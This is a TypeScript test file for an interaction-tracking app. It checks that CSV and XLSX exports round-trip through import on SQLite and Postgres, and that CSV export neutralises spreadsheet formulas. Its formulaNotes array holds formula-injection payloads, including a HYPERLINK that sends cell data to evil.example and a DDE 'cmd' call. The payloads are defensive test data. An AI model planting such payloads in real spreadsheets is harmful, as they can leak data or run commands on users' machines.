import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Interaction } from '../../src/domain/support/schemas.ts';
import { deleteInteraction } from '../../src/app/interactions/delete-interaction.ts';
import { logInteractions } from '../../src/app/interactions/log-interactions.ts';
import { exportInteractionsToFile } from '../../src/app/interactions/export-interactions-to-file.ts';
import { importInteractions } from '../../src/app/interactions/import-interactions.ts';
import { tableFileKindOf } from '../../src/app/interactions/import-files.ts';
import { createTestDatabase, type TestDatabase } from '../support/databases.ts';
import { buildOrganization } from '../support/factories.ts';
import { buildEngagement, typicalInteraction } from '../support/records.ts';
import { readXlsx, sortedCarried, tempFolder } from './files.ts';

/**
 * Notes a spreadsheet would run as formulas if written as they are. The schema trims notes, so a note
 * sent with a leading tab or carriage return is stored from the character after it; the last two begin
 * with an apostrophe already, which the export must keep through the round trip.
 */
const formulaNotes = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "+1 555 0100 called back; cmd|' /C calc'!A0",
  '-2 on the fidelity checklist',
  '@SUM(1+1)*cmd',
  '\t=1+2',
  '\r-3+4',
  "'=kept as the partner typed it",
  "''@twice",
];

/** Interactions that exercise every column: no time, no components, ratings and none, counts, awkward notes. */
function variedInteractions(engagementA: string, engagementB: string) {
  return [
    typicalInteraction(engagementA, { nextSteps: [] }),
    typicalInteraction(engagementA, {
      date: '2020-02-04',
      time: null,
      principles: [
        { principleId: 'relationship-centered', rating: null },
        { principleId: 'data-informed', rating: 5 },
      ],
      nextSteps: [],
    }),
    typicalInteraction(engagementA, {
      date: '2020-03-01',
      components: [],
      principles: [],
      notes: '',
      participants: { contactIds: [], counts: { individual: 3, team: 1 } },
      nextSteps: [],
    }),
    typicalInteraction(engagementB, {
      date: '2021-06-30',
      mode: 'in-person',
      stageId: 'capacity-development',
      notes: 'Quotes "here", commas, a\nnew line and ünïcödé; semicolons too',
      nextSteps: [],
    }),
    typicalInteraction(engagementB, {
      date: '2021-07-01',
      time: '08:05',
      durationMinutes: 240,
      mode: 'other',
      components: [
        { componentId: 'teaching', minutes: 60, activityIds: [] },
        { componentId: 'sustaining', minutes: 15, activityIds: [] },
      ],
      participants: { contactIds: [], counts: { organization: 2, system: 1 } },
      nextSteps: [],
    }),
    ...formulaNotes.map((notes, i) =>
      typicalInteraction(engagementB, { date: `2021-08-${String(i + 1).padStart(2, '0')}`, notes, nextSteps: [] }),
    ),
  ];
}

/** The notes column of an exported file, as the file holds it. */
async function notesCells(file: string): Promise<string[]> {
  const [header, ...rows] = file.endsWith('.xlsx')
    ? await readXlsx(file)
    : (parse(readFileSync(file, 'utf8'), { bom: true }) as string[][]);
  const column = header!.indexOf('notes');
  return rows.map((row) => row[column] ?? '');
}

const cases = [
  { format: 'long', file: 'long.csv' },
  { format: 'long', file: 'long.xlsx' },
  { format: 'wide', file: 'wide.csv' },
  { format: 'wide', file: 'wide.xlsx' },
] as const;

describe.each(['sqlite', 'postgres'] as const)('export then import gives the same interactions on %s', (engine) => {
  let t: TestDatabase;
  let orgId: string;
  let actor: string;
  let originals: Interaction[];
  const folder = tempFolder();

  beforeAll(async () => {
    t = await createTestDatabase(engine);
    const built = await buildOrganization(t.store);
    orgId = built.organization.id;
    actor = built.admin.userId;
    const a = (await buildEngagement(t.store, orgId, actor)).engagement.id;
    const b = (await buildEngagement(t.store, orgId, actor, '2021-01-04')).engagement.id;
    const inputs = variedInteractions(a, b);
    originals = await logInteractions(
      t.store,
      orgId,
      inputs.map((input, i) => ({ row: i + 2, input })),
      actor,
    );
  });
  afterAll(async () => {
    await t.dispose();
    folder.dispose();
  });

  // Postgres gets one round trip (the engine-specific part is the write); SQLite gets every layout and file type.
  it.each(engine === 'postgres' ? cases.slice(0, 1) : cases)('$format layout as $file', async ({ format, file }) => {
    const target = folder.file(file);
    await exportInteractionsToFile(t.store, orgId, format, target);
    // A CSV guards each note a spreadsheet would take for a formula with an apostrophe; a workbook holds
    // them as text cells, which a spreadsheet never evaluates, so they are written as they are.
    const stored = originals.map((i) => i.notes).filter((n) => /^'*[=+\-@]/.test(n));
    expect(stored).toHaveLength(formulaNotes.length);
    const cells = await notesCells(target);
    for (const note of stored) expect(cells).toContain(file.endsWith('.xlsx') ? note : `'${note}`);
    if (!file.endsWith('.xlsx')) expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const before = new Set((await t.store.tenant(orgId).interactions.allLive()).map((i) => i.id));

    const dry = await importInteractions(t.store, orgId, target, {
      kind: tableFileKindOf(target),
      dryRun: true,
      actor: 'cli',
    });
    expect(dry).toMatchObject({
      format,
      dryRun: true,
      interactions: originals.length,
      written: 0,
      errors: [],
      errorCount: 0,
    });
    expect((await t.store.tenant(orgId).interactions.allLive()).length).toBe(before.size);

    const report = await importInteractions(t.store, orgId, target, {
      kind: tableFileKindOf(target),
      dryRun: false,
      actor: 'cli',
    });
    expect(report).toMatchObject({ format, interactions: originals.length, written: originals.length, errorCount: 0 });
    // The long layout has a row per component; an interaction without components still takes one row.
    expect(report.rowsRead).toBe(
      format === 'long' ? originals.reduce((n, i) => n + Math.max(1, i.components.length), 0) : originals.length,
    );
    const imported = (await t.store.tenant(orgId).interactions.allLive()).filter((i) => !before.has(i.id));
    expect(sortedCarried(imported)).toEqual(sortedCarried(originals));
    expect(imported.every((i) => i.loggedBy === 'cli' && i.modelId === 'eis-toc' && i.modelVersion === '1.0.0')).toBe(
      true,
    );
    // Back to the originals, so the next case exports them alone (imported copies would be duplicates in its file).
    for (const interaction of imported) await deleteInteraction(t.store, orgId, interaction.id, undefined, actor);
  });
});
